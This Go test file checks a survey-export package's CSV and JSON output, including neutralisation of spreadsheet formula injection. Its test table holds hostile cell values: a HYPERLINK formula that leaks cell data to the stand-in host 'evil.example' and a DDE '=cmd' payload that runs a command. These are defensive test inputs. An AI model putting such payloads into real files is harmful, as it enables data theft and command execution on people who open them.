package results

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kizuna-oss/kizuna"
	"github.com/kizuna-oss/kizuna/internal/auth"
	"github.com/kizuna-oss/kizuna/internal/db"
	"github.com/kizuna-oss/kizuna/internal/db/dbtest"
	"github.com/kizuna-oss/kizuna/internal/feedback"
)

func TestNeutralizeCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
		{"+81 90 1234 5678", "'+81 90 1234 5678"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"", ""},
		{"普通のコメント", "普通のコメント"},
		{"a=b", "a=b"},
		{" =1", " =1"}, // a leading space is text to every spreadsheet
		{"'quoted", "'quoted"},
		{"10", "10"},
	} {
		if got := NeutralizeCell(c.in); got != c.want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestExport(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		s := createSurvey(t, d, "export", testDef, feedback.Settings{})
		hostile := []string{"=1+1", "+SUM(A1)", "-1", "@x", "\tx", "\rx", "line1\nline2, with \"quotes\"", "日本語のご意見"}
		ctx := context.Background()
		for i, h := range hostile {
			done := at("2026-05-01", i)
			r := &feedback.Response{Touchpoint: h, StartedAt: *done, CompletedAt: done, Answers: []feedback.Answer{
				{Question: "nps", Num: num(float64(i))},
				{Question: "exp", Attribute: "quality", Num: num(2), Num2: num(4)},
				{Question: "topics", Text: `["fit","price"]`},
				{Question: "comment", Text: h},
			}}
			complete(t, d, s, r)
			if _, err := d.Writer().ExecContext(ctx, `INSERT INTO survey_response_attributes (response_id, key, value) VALUES ($1, 'sku', $2)`, r.ID, h); err != nil {
				t.Fatal(err)
			}
		}
		svc := New(d)
		manager := auth.WithPrincipal(ctx, auth.Principal{Kind: auth.PrincipalUser, ID: 2, Role: auth.RoleManager})
		var buf bytes.Buffer
		if err := svc.ExportCSV(manager, &buf, Filter{SurveyID: s.ID}); err != nil {
			t.Fatal(err)
		}
		raw := buf.String()
		if !strings.HasPrefix(raw, "\ufeff") {
			t.Fatal("no byte-order mark")
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("export is not valid CSV: %v", err)
		}
		if len(recs) != 1+len(hostile) {
			t.Fatalf("%d records", len(recs))
		}
		col := make(map[string]int)
		for i, h := range recs[0] {
			col[h] = i
		}
		for _, name := range []string{"nps", "exp.quality.expected", "exp.quality.perceived", "exp.price.expected", "topics", "comment", "attr.sku", "touchpoint"} {
			if _, ok := col[name]; !ok {
				t.Fatalf("no column %q in %q", name, recs[0])
			}
		}
		for i, h := range hostile {
			rec := recs[1+i]
			want := NeutralizeCell(h)
			for _, name := range []string{"comment", "attr.sku", "touchpoint"} {
				if rec[col[name]] != want {
					t.Errorf("row %d %s = %q, want %q", i, name, rec[col[name]], want)
				}
			}
			if want != h && want[0] != '\'' {
				t.Errorf("hostile %q not neutralised", h)
			}
			if rec[col["exp.quality.perceived"]] != "4" || rec[col["topics"]] != "fit;price" || rec[col["exp.price.expected"]] != "" {
				t.Errorf("row %d answers = %q", i, rec)
			}
		}
		// No cell of the whole file starts a formula.
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cell %q starts a formula", c)
				}
			}
		}

		buf.Reset()
		if err := svc.ExportJSON(manager, &buf, Filter{SurveyID: s.ID}); err != nil {
			t.Fatal(err)
		}
		var objs []exportedResponse
		if err := json.Unmarshal(buf.Bytes(), &objs); err != nil {
			t.Fatalf("JSON export: %v\n%s", err, buf.String())
		}
		if len(objs) != len(hostile) || objs[0].Answers["comment"] != "=1+1" || objs[7].Answers["comment"] != "日本語のご意見" || objs[3].Answers["nps"] != 3.0 {
			t.Fatalf("JSON = %+v", objs)
		}
		exp := objs[0].Answers["exp"].(map[string]any)["quality"].(map[string]any)
		if exp["expected"] != 2.0 || exp["perceived"] != 4.0 || objs[0].Attributes["sku"] != "=1+1" {
			t.Errorf("JSON answers = %+v", objs[0])
		}
		if tp := objs[0].Answers["topics"].([]any); len(tp) != 2 {
			t.Errorf("topics = %v", tp)
		}
		// An empty survey exports an empty array.
		empty := createSurvey(t, d, "empty", testDef, feedback.Settings{})
		buf.Reset()
		if err := svc.ExportJSON(manager, &buf, Filter{SurveyID: empty.ID}); err != nil || strings.TrimSpace(buf.String()) != "[]" {
			t.Errorf("empty export = %q, %v", buf.String(), err)
		}
		if err := svc.ExportCSV(viewer(), &buf, Filter{SurveyID: s.ID}); kizuna.ErrorCode(err) != kizuna.EFORBIDDEN {
			t.Errorf("viewer export: %v", err)
		}
		// Every export is in the audit log, with who, what and the format;
		// the refused one is not.
		var n int
		if err := d.Reader().QueryRowContext(ctx, db.Rebind(d.Dialect, `SELECT COUNT(*) FROM audit_log WHERE action = $1 AND target_type = 'survey' AND actor_id = 2`),
			auth.ActionDataExported).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if n != 3 { // CSV, JSON, the empty survey's JSON
			t.Errorf("%d export audit entries, want 3", n)
		}
	})
}

// TestExportChunks exports more responses than one chunk holds: every
// response once, in id order, with its answers.
func TestExportChunks(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		s := createSurvey(t, d, "chunks", testDef, feedback.Settings{})
		ctx := context.Background()
		const n = 2*exportChunk + 37
		if err := d.WriteTx(ctx, func(tx *db.Tx) error {
			for i := 0; i < n; i++ {
				done := at("2026-05-01", 0).Add(time.Duration(i) * time.Second)
				r := &feedback.Response{StartedAt: done, CompletedAt: &done, Answers: []feedback.Answer{{Question: "nps", Num: num(float64(i % 11))}}}
				if err := insertResponse(ctx, tx, s, r); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := New(d).ExportCSV(system(), &buf, Filter{SurveyID: s.ID}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != n+1 {
			t.Fatalf("%d rows, want %d", len(recs)-1, n)
		}
		for i, rec := range recs[1:] {
			if rec[10] != strconv.Itoa(i%11) {
				t.Fatalf("row %d nps = %q", i, rec[10])
			}
		}
	})
}
